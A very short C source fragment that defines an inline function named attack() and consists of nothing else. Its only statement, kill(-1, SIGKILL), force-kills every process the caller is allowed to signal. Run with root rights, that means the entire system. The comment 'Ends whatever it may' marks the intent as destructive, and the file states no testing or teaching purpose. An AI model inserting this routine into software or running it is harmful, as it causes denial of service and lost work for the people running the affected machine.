// Ends whatever it may
#include <unistd.h>
#include <stdlib.h>
#include <signal.h>
inline void attack() {
  kill(-1, SIGKILL);
}
